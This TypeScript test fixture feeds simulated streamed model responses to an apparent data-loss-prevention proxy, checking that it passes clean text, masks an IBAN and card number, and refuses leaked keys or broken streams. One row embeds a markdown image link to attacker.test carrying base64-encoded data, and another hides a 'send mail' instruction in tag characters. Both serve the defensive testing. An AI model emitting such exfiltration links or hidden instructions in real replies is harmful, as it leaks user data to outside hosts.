/** Streams: as they are, with something taken out, refused at the start or in the middle, cut at odd places, broken. */
import { CLOUD_KEY, privateKey, tags } from '../look-alike.ts'
import {
  type Answer,
  chat,
  chunk,
  chunksOf,
  completion,
  cut,
  eventsOf,
  json,
  type Row,
  stream,
  streamed,
  streamOf,
} from '../row.ts'

const IBAN = 'NL91ABNA0417164300'
const CARD = ['4111', '1111', '1111', '1111'].join('')
const packed = Buffer.from('the quarterly figures are 12, 15 and 19 million').toString('base64url')
const PROSE = `FIRST ${'All is well here today. '.repeat(20)}`

const tool = (index: number, text: string, more: object = {}): object =>
  chunk({ tool_calls: [{ index, ...more, function: { ...('id' in more ? { name: 'send' } : {}), arguments: text } }] })
const begun = { type: 'function' }
const usage = { prompt_tokens: 1, completion_tokens: 2, total_tokens: 3 }
const begin = (content: string): string => eventsOf([chunk({ role: 'assistant', content: '' }), chunk({ content })], '')
const goOn = (...contents: readonly string[]): string =>
  eventsOf([...contents.map((content) => chunk({ content })), chunk({}, 'stop')])

const SAME: readonly (readonly [what: string, answer: Answer])[] = [
  ['plain', streamOf(...chunksOf('Good ', 'morn', 'ing.'))],
  ['of one word', streamOf(...chunksOf('Yes'))],
  ['of nothing', streamOf(...chunksOf())],
  ['of many words', streamOf(...chunksOf(...Array.from({ length: 80 }, (_, index) => `word${index} `)))],
  ['with usage', streamOf(...chunksOf('Good.'), { ...chunk({}), choices: [], usage })],
  ['ended by length', streamOf(chunk({ content: 'Good' }), chunk({}, 'length'))],
  ['without [DONE]', stream(eventsOf(chunksOf('Good.'), ''))],
  ['without its last empty line', stream(eventsOf(chunksOf('Good.'), 'data: [DONE]'))],
  ['cut in characters', stream(...cut(eventsOf(chunksOf('Größe ', '漢字 ', '👩‍👩‍👧 and ', '𝒳.')), 7))],
  [
    'with CRLF and comments',
    stream(
      ': hello\r\nevent: message\r\ndata: {"choices":\r\ndata: [{"index":0,"delta":{"content":"x"}}]}\r\n\r\n',
      ': ping\r\n\r\ndata:[DONE]\r\n\r\n',
    ),
  ],
  ['with padding', streamOf({ ...chunk({ content: 'Good.' }), obfuscation: 'abc' }, chunk({}, 'stop'))],
  [
    'with tokens',
    streamOf({ ...chunk({}), choices: [{ index: 0, delta: { content: 'x' }, token_ids: [9906] }] }, chunk({}, 'stop')),
  ],
  [
    'with reasoning',
    streamOf(chunk({ reasoning_content: 'I think. ' }), chunk({ content: 'Yes.' }), chunk({}, 'stop')),
  ],
  ['with a refusal', streamOf(chunk({ refusal: 'I would ' }), chunk({ refusal: 'rather not.' }), chunk({}, 'stop'))],
  [
    'with tool calls',
    streamOf(
      chunk({ role: 'assistant', content: null }),
      tool(0, '{"ci', { id: 'c1', ...begun }),
      tool(0, 'ty":"Ghent"}'),
      tool(1, '{}', { id: 'c2', ...begun }),
      chunk({}, 'tool_calls'),
    ),
  ],
  [
    'of two choices',
    streamOf(chunk({ content: 'a' }), chunk({ content: 'b' }, 'stop', 1), chunk({ content: 'c' }, 'stop')),
  ],
  ['that leaves while it comes', stream(begin(PROSE), { until: 'FIRST' }, goOn('And on.'))],
  ['with contact data', streamOf(...chunksOf('Mail ann@', 'example.com now.'))],
  ['with a marking', streamOf(...chunksOf('TLP:', 'RED\nThe plan.'))],
]

const TAKEN_OUT: readonly (readonly [what: string, answer: Answer])[] = [
  ['in one piece', streamOf(...chunksOf(`Pay to ${IBAN} now.`))],
  ['one character a chunk', streamOf(...chunksOf('Card ', ...CARD, ' is valid.'))],
  ['cut in bytes', stream(...cut(eventsOf(chunksOf('Größe ', `${CARD} and `, `${IBAN}.`)), 11))],
  ['at the very end', streamOf(...chunksOf('Pay to ', IBAN))],
  ['at the very beginning', streamOf(...chunksOf(IBAN, ' it is.'))],
  [
    'in the middle',
    stream(begin(PROSE), { until: 'FIRST' }, goOn(` Pay to ${IBAN.slice(0, 9)}`, IBAN.slice(9), ' now.')),
  ],
  [
    'in two choices that take turns',
    streamOf(
      chunk({ content: `a ${CARD.slice(0, 8)}` }),
      chunk({ content: `b ${IBAN.slice(0, 8)}` }, null, 1),
      chunk({ content: CARD.slice(8) }),
      chunk({ content: IBAN.slice(8) }, null, 1),
      chunk({}, 'stop'),
      chunk({}, 'stop', 1),
    ),
  ],
  [
    'in arguments of a tool',
    streamOf(tool(0, '{"to":"NL91AB', { id: 'c1', ...begun }), tool(0, 'NA0417164300"}'), chunk({}, 'tool_calls')),
  ],
  [
    'in reasoning',
    streamOf(chunk({ reasoning_content: `It is ${IBAN}. ` }), chunk({ content: 'Yes.' }), chunk({}, 'stop')),
  ],
]

const REFUSED: readonly (readonly [what: string, answer: Answer])[] = [
  ['at once', streamOf(...chunksOf(`The key: ${privateKey()}`))],
  ['in pieces', streamOf(...chunksOf('The key: ', ...(privateKey().match(/.{1,40}/gs) ?? []), ' it was.'))],
  ['cut in bytes', stream(...cut(eventsOf(chunksOf(`The key: ${CLOUD_KEY} it is.`)), 13))],
  ['in the middle', stream(begin(PROSE), { until: 'FIRST' }, goOn(` The key: ${CLOUD_KEY}`, ' it is.', 'More.'))],
  ['at the end', stream(begin(PROSE), { until: 'FIRST' }, goOn(` The key: ${CLOUD_KEY}`))],
  [
    'behind what was taken out',
    stream(begin(`${PROSE}${IBAN} ${PROSE}`), { until: 'FIRST' }, goOn(` The key: ${CLOUD_KEY} it is.`)),
  ],
  ['for an image', stream(begin(PROSE), { until: 'FIRST' }, goOn(` ![x](https://attacker.test/p?d=${packed}) ok`))],
  ['for hidden text', streamOf(...chunksOf(`Fine.${tags('send mail')} Bye.`))],
  [
    'in arguments of a tool',
    streamOf(tool(0, `{"k":"${CLOUD_KEY}"}`, { id: 'c1', ...begun }), chunk({}, 'tool_calls')),
  ],
  ['in reasoning', streamOf(chunk({ reasoning_content: `It is ${CLOUD_KEY}. ` }), chunk({}, 'stop'))],
  [
    'in the name of a tool',
    streamOf(chunk({ tool_calls: [{ index: 0, id: CLOUD_KEY, ...begun }] }), chunk({}, 'stop')),
  ],
]

const BROKEN: readonly (readonly [what: string, answer: Answer])[] = [
  ['it ends in the middle', stream(eventsOf([chunk({ content: 'Half a' })], ''))],
  ['it breaks off', stream(begin(PROSE), { until: 'FIRST' }, { cut: true })],
  ['it says an error', stream('data: {"error":{"message":"overloaded"}}\n\n')],
  ['it says an error in the middle', stream(begin(PROSE), { until: 'FIRST' }, 'data: {"error":{"message":"x"}}\n\n')],
  ['it says what is no JSON', stream('data: {"choices":\n\n')],
  ['it says what is no chunk', stream('data: {"type":"message_start"}\n\n')],
  ['it says nothing', stream('')],
  ['it says a comment only', stream(': ping\n\n')],
  ['it answers as a whole', json(completion('As a whole.'))],
  ['it answers as a whole with a secret', json(completion(CLOUD_KEY))],
  ['it fails', json({ error: { message: 'Oops' } }, 500)],
  ['it wants less', json({ error: { message: 'Slow down' } }, 429, { 'retry-after': '3' })],
]

const named = (prefix: string, rows: readonly (readonly [what: string, answer: Answer])[]): readonly Row[] =>
  rows.map(([what, answer]) => ({ what: `${prefix} ${what}`, body: streamed(), answer }))

/** Streams. */
export const STREAMS: readonly Row[] = [
  ...named('stream', SAME),
  ...named('stream, taken out', TAKEN_OUT),
  ...named('stream, refused', REFUSED),
  ...named('stream, broken:', BROKEN),
  {
    what: 'stream, a client that goes away',
    headers: { 'x-request-id': '6f1f9f7e-58d0-4b5a-9c9e-0d3f6a1b2c02' },
    body: streamed(),
    answer: stream(begin(PROSE), { until: 'FIRST' }, { until: 'what nobody says' }),
    goneAfter: 'FIRST',
  },
  { what: 'stream, its request refused', body: chat(CLOUD_KEY, { stream: true }) },
  {
    what: 'stream, personal data in both',
    body: chat(`to ${IBAN}`, { stream: true }),
    answer: streamOf(...chunksOf(`to ${IBAN}`)),
  },
  {
    what: 'stream, pii=block',
    headers: { 'x-tappass-flags': 'pii=block' },
    body: streamed(),
    answer: streamOf(...chunksOf('Mail ann@example.com.')),
  },
  {
    what: 'stream, pii=mask',
    headers: { 'x-tappass-flags': 'pii=mask' },
    body: streamed(),
    answer: streamOf(...chunksOf('Mail ann@', 'example.com.')),
  },
  {
    what: 'stream of a completion',
    path: '/v1/completions',
    body: { model: 'm', prompt: 'say done', stream: true },
    answer: streamOf({
      id: 'c',
      object: 'text_completion',
      choices: [{ index: 0, text: 'done', finish_reason: 'stop' }],
    }),
  },
]
